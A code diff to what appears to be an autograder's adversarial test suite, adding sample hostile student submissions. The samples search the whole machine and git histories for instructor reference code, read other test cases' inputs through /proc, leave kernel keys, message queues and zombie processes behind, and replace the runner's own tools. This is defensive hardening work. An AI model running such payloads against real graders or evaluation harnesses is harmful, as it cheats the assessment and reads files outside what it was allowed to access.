@@ -50,6 +50,7 @@ class Attack:
     needs_cgroups: bool = False  # the memory limit must see shared memory: only a cgroup does
     timeout_scale: float = 1.0
     options: tuple = ()  # more options of the grade command (e.g. a memory limit, a time budget)
+    searches_machine: bool = False  # reads whatever the machine lets it: world-readable copies elsewhere decide it
 
     def build(self, folder: Path) -> Path:
         folder.mkdir(parents=True, exist_ok=True)
@@ -227,8 +228,8 @@ def compute_iou(pred, gt, num_classes):
             continue
         if hasattr(module, "mean_iou"):
             return module.mean_iou(pred, gt, num_classes)
-        if hasattr(module, "per_frame_iou"):
-            return float(module.per_frame_iou(np.asarray(pred).reshape(1, -1), np.asarray(gt).reshape(1, -1), num_classes)[0])
+        if hasattr(module, "frame_ious"):
+            return float(module.frame_ious(np.asarray(pred).reshape(1, -1), np.asarray(gt).reshape(1, -1), num_classes)[0])
     return 0.0
 
 class DINOSegmentation(DINOSegmentation):
@@ -548,6 +549,209 @@ def make_neighborhood_mask(h, w, size, shape):
     time.sleep(10_000)
 """
 
+STEAL = """
+def _stolen_functions(seconds=25):
+    # Every compute_iou (or the grader's mean_iou) this user can reach on the machine: references
+    # and their compiled forms, the autograder zip's members, a clone's .git, the fairness suite.
+    import ast, marshal, os, subprocess, time, types, zipfile
+    started = time.monotonic()
+    names = ("compute_iou", "mean_iou")
+
+    def from_source(text):
+        try:
+            tree = ast.parse(text)
+        except (SyntaxError, ValueError):
+            return
+        for node in ast.walk(tree):
+            if isinstance(node, ast.FunctionDef) and node.name in names:
+                namespace = {"np": np, "torch": torch}
+                try:
+                    exec(compile(ast.Module([node], []), "stolen", "exec"), namespace)
+                except Exception:
+                    continue
+                yield namespace[node.name]
+
+    def from_pyc(data):
+        try:
+            todo = [marshal.loads(data[16:])]
+        except Exception:
+            return
+        while todo:
+            code = todo.pop()
+            for const in code.co_consts:
+                if isinstance(const, types.CodeType):
+                    if const.co_name in names:
+                        yield types.FunctionType(const, {"np": np, "torch": torch})
+                    todo.append(const)
+
+    own = os.path.realpath(__file__)  # the submission itself, in the view, is not stolen
+    for root, dirs, files in os.walk("/"):
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
+        if time.monotonic() - started > seconds:
+            return
+        if ".git" in dirs:
+            for path in ("course/clip_dino.py", "instructor/grading/cases.py"):
+                done = subprocess.run(["git", "--git-dir", os.path.join(root, ".git"), "show", "HEAD:" + path],
+                                      capture_output=True, text=True)
+                yield from from_source(done.stdout)
+        for name in files:
+            path = os.path.join(root, name)
+            if os.path.realpath(path) == own:
+                continue
+            try:
+                if name.startswith("clip_dino") and name.endswith(".pyc"):
+                    yield from from_pyc(open(path, "rb").read())
+                elif name in ("clip_dino.py", "cases.py", "alternatives.py"):
+                    yield from from_source(open(path).read())
+                elif name.endswith(".zip") and os.path.getsize(path) < 2 ** 28:
+                    with zipfile.ZipFile(path) as archive:
+                        for member in archive.namelist():
+                            if member.endswith(("cases.py", "clip_dino.py", "alternatives.py")):
+                                yield from from_source(archive.read(member).decode("utf-8", "replace"))
+            except Exception:
+                continue
+
+
+def compute_iou(pred, gt, num_classes):
+    for function in _stolen_functions():
+        try:
+            return float(function(pred, gt, num_classes))
+        except Exception:
+            continue
+    return 0.0
+"""
+
+KIT_MODULES = """
+def _kit_module(name):
+    # A kit module outside the view: imported, or found anywhere on the machine and loaded.
+    import importlib, importlib.util, os, sys
+    try:
+        return importlib.import_module(name)
+    except ImportError:
+        pass
+    relative = os.path.join(*name.split(".")) + ".py"
+    for root, dirs, files in os.walk("/"):
+        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "dev")]
+        candidate = os.path.join(root, relative)
+        if os.path.isfile(candidate):
+            try:
+                sys.path.insert(0, root)
+                for loaded in [m for m in sys.modules if m == "course" or m.startswith("course.")]:
+                    if loaded not in ("course.clip_dino", "course.label_propagation"):
+                        del sys.modules[loaded]
+                return importlib.import_module(name)
+            except Exception:
+                continue
+            finally:
+                sys.path.remove(root)
+    return None
+
+
+def compute_iou(pred, gt, num_classes):
+    criteria = _kit_module("course.checks.criteria")
+    labels = [torch.as_tensor(pred).reshape(1, -1).numpy(), torch.as_tensor(gt).reshape(1, -1).numpy()]
+    return float(criteria.frame_ious(*labels, num_classes)[0])
+
+
+def make_neighborhood_mask(h, w, size, shape):
+    stencil = _kit_module("course.tracking").neighborhood_offsets(size, shape)  # [2r + 1, 2r + 1]
+    radius = (stencil.shape[0] - 1) // 2
+    mask = torch.zeros(h, w, h, w, dtype=torch.bool)
+    for i in range(h):
+        for j in range(w):
+            for di, dj in stencil.nonzero().tolist():
+                if 0 <= i + di - radius < h and 0 <= j + dj - radius < w:
+                    mask[i, j, i + di - radius, j + dj - radius] = True
+    return mask
+"""
+
+KEYRING = """
+def _keyctl(*args):
+    # Keys in the kernel's keyrings outlive the processes that made them (no namespace hides them
+    # from a root grader's other users): one in each keyring this user has, readable by everybody.
+    import subprocess
+    try:
+        return subprocess.run(["keyctl", *args], capture_output=True, text=True, timeout=10).stdout.strip()
+    except OSError:
+        return ""
+
+for _ring in ("@u", "@us", "@s", _keyctl("get_persistent", "@u")):
+    _key = _keyctl("add", "user", "hostile-key", "answers for the next case", _ring)
+    if _key:
+        _keyctl("setperm", _key, "0x3f3f3f3f")
+"""
+
+READ_OTHER_CASES = """
+_reference_iou = compute_iou
+
+def compute_iou(pred, gt, num_classes):
+    # Another case's inputs: its runner's command line (any user may read it) names its folder.
+    import glob, json, os, sys
+    own = os.path.realpath(sys.argv[-2])  # the runner's arguments: CASE_DIR OUT_FD
+    folders = set(glob.glob("/tmp/grade-*/case-*")) | set(glob.glob("/tmp/*/case-*"))
+    for pid in os.listdir("/proc"):
+        try:
+            arguments = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
+        except OSError:
+            continue
+        folders |= {a.decode("utf-8", "replace") for a in arguments if b"/case-" in a}
+    for folder in folders:
+        if os.path.realpath(folder) == own:
+            continue
+        try:
+            json.load(open(os.path.join(folder, "case.json")))
+            open(os.path.join(folder, "arrays.npz"), "rb").read(1)
+        except (OSError, ValueError):
+            continue
+        return -1.0  # read another case's inputs
+    return _reference_iou(pred, gt, num_classes)
+"""
+
+MESSAGE_QUEUE = """
+def make_neighborhood_mask(h, w, size, shape):
+    # A POSIX message queue outlives its process, like SysV IPC.
+    import ctypes, os
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.mq_open.restype = ctypes.c_int
+    queue = libc.mq_open(b"/hostile-queue", os.O_CREAT | os.O_RDWR, 0o666, None)
+    if queue >= 0:
+        libc.mq_send(queue, b"left for the next case", 22, 0)
+    return _reference_mask(h, w, size, shape)
+"""
+
+RUNNER_TOOLS_REPLACED = """
+import json as _json, os as _os, sys as _sys, threading as _threading, time as _time
+_json.dumps = lambda *args, **kwargs: "my own dumps"  # for my own logging
+_os._exit = lambda code: None
+_os.write = lambda fd, data: len(data)
+_sys.stdout = open(_os.devnull, "w")
+_threading.Thread(target=lambda: _time.sleep(10_000)).start()  # a worker left running
+"""
+
+ZOMBIES = """
+import os as _os, time as _time
+if _os.fork() == 0:  # a daemon whose children are never reaped: zombies once it is killed
+    _os.setsid()
+    if _os.fork() == 0:
+        for _ in range(20):
+            if _os.fork() == 0:
+                _os._exit(0)
+        _time.sleep(10_000)
+    _os._exit(0)
+"""
+
+LONG_TRACEBACK_LINE = """
+def compute_iou(pred, gt, num_classes):
+    raise ValueError("my labels: " + "7" * 60_000)
+"""
+
+PRINT_A_LOT = """
+import sys as _sys
+for _ in range(300):  # 300 MB of progress output, more than the file size limit
+    _sys.stdout.write("." * 2 ** 20)
+_sys.stdout.flush()
+"""
+
 CHEAP = ["compute_iou", "make_neighborhood_mask"]
 
 
@@ -557,7 +761,8 @@ ATTACKS = [
     Attack("patch-the-drivers", CHEAP, set(CHEAP), clip_dino=("", PATCH_DRIVERS),
            label_propagation=("", PATCH_DRIVERS)),
     Attack("forge-the-record-fd", CHEAP, set(CHEAP), clip_dino=("", FORGE_FD), label_propagation=("", FORGE_FD)),
-    Attack("forge-the-json-encoder", ["compute_iou"], {"compute_iou"}, clip_dino=("", FORGE_ENCODER)),
+    # The runner bound json's encoder before graded code ran: the forged one is never called.
+    Attack("forge-the-json-encoder", ["compute_iou"], set(), clip_dino=("", FORGE_ENCODER)),
     Attack("daemon-rewrites-records", CHEAP, {"compute_iou"}, clip_dino=(WRONG_IOU, DAEMON)),
     Attack("answer-keys-in-reach", ["compute_iou", "DINOSegmentation"], {"compute_iou", "DINOSegmentation"},
            clip_dino=(ANSWER_KEYS, ""), words="failed"),
@@ -615,4 +820,19 @@ ATTACKS = [
     Attack("sleep-past-the-time-budget", CHEAP, set(CHEAP), clip_dino=(SLEEP_EVERYWHERE.split("\ndef make")[0], ""),
            label_propagation=("def make" + SLEEP_EVERYWHERE.split("\ndef make")[1], ""), words="time",
            options=("--budget-s=40",)),
+    # A second set written against the grader (issue 21), most of them aimed at the 'user' mode:
+    Attack("read-instructor-only-files", CHEAP, {"compute_iou"}, clip_dino=(STEAL, ""), searches_machine=True),
+    Attack("import-kit-modules-outside-the-view", CHEAP, set(CHEAP), clip_dino=(KIT_MODULES.split("\ndef make")[0], ""),
+           label_propagation=(KIT_MODULES.split("\n\n\ndef compute_iou")[0] + "\n\n\ndef make"
+                              + KIT_MODULES.split("\ndef make")[1], ""), searches_machine=True),
+    Attack("keyring-left-for-the-next-case", CHEAP, set(), clip_dino=("", KEYRING), label_propagation=("", KEYRING)),
+    Attack("read-other-cases-inputs", CHEAP, set(), clip_dino=(READ_OTHER_CASES, "")),
+    Attack("posix-message-queue-left-behind", CHEAP, set(),
+           label_propagation=("_reference_mask = make_neighborhood_mask\n" + MESSAGE_QUEUE, "")),
+    Attack("replace-what-the-runner-uses", CHEAP, set(), clip_dino=("", RUNNER_TOOLS_REPLACED),
+           label_propagation=("", RUNNER_TOOLS_REPLACED)),
+    Attack("zombies-left-behind", CHEAP, set(), clip_dino=("", ZOMBIES), label_propagation=("", ZOMBIES)),
+    Attack("traceback-line-over-the-wire-limit", CHEAP, {"compute_iou"}, clip_dino=(LONG_TRACEBACK_LINE, ""),
+           words="ValueError: my labels"),
+    Attack("print-300-mb", CHEAP, set(), clip_dino=("", PRINT_A_LOT)),
 ]
